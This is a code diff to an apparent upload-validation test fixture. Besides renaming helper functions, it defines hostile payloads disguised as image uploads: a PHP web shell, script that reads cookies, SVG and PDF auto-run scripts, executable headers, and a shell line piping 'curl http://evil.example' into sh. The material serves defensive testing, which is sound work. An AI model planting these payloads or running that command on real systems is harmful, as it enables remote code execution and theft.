@@ -1,4 +1,4 @@
-import { randomFrom } from '../../../server/operations/demo/random.ts';
+import { createRandom } from '../../../server/operations/demo/random.ts';
 
 /** A file that a client sends as an image. */
 export interface HostileFile {
@@ -16,21 +16,21 @@ export interface HostileFile {
 export const MARKER = marker();
 
 function marker(): Buffer {
-  const random = randomFrom('uploads');
+  const random = createRandom('uploads');
   const letters = Array.from({ length: 160 }, () => String.fromCharCode(random.between(65, 90)));
   return Buffer.from(`HOSTILE${letters.join('')}`);
 }
 
-export const withMarker = (text: string): Buffer => Buffer.concat([Buffer.from(text), MARKER]);
+export const addMarker = (text: string): Buffer => Buffer.concat([Buffer.from(text), MARKER]);
 
 /** Contents that a browser, a server or another program would run or open. */
 export const PAYLOADS: Record<string, Buffer> = {
-  html: withMarker('<!doctype html><script>fetch("/api/auth/profile")</script>'),
-  js: withMarker('/*\n*/=1;alert(document.cookie);//'),
-  php: withMarker('<?php system($_GET["c"]); __halt_compiler();'),
-  svg: withMarker('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'),
+  html: addMarker('<!doctype html><script>fetch("/api/auth/profile")</script>'),
+  js: addMarker('/*\n*/=1;alert(document.cookie);//'),
+  php: addMarker('<?php system($_GET["c"]); __halt_compiler();'),
+  svg: addMarker('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'),
   zip: Buffer.concat([Buffer.from('504b0304140000000000', 'hex'), MARKER, Buffer.from('504b0506', 'hex')]),
-  pdf: withMarker('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n'),
-  shell: withMarker('#!/bin/sh\ncurl http://evil.example | sh\n'),
+  pdf: addMarker('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n'),
+  shell: addMarker('#!/bin/sh\ncurl http://evil.example | sh\n'),
   exe: Buffer.concat([Buffer.from('4d5a90000300000004000000ffff0000', 'hex'), MARKER]),
 };
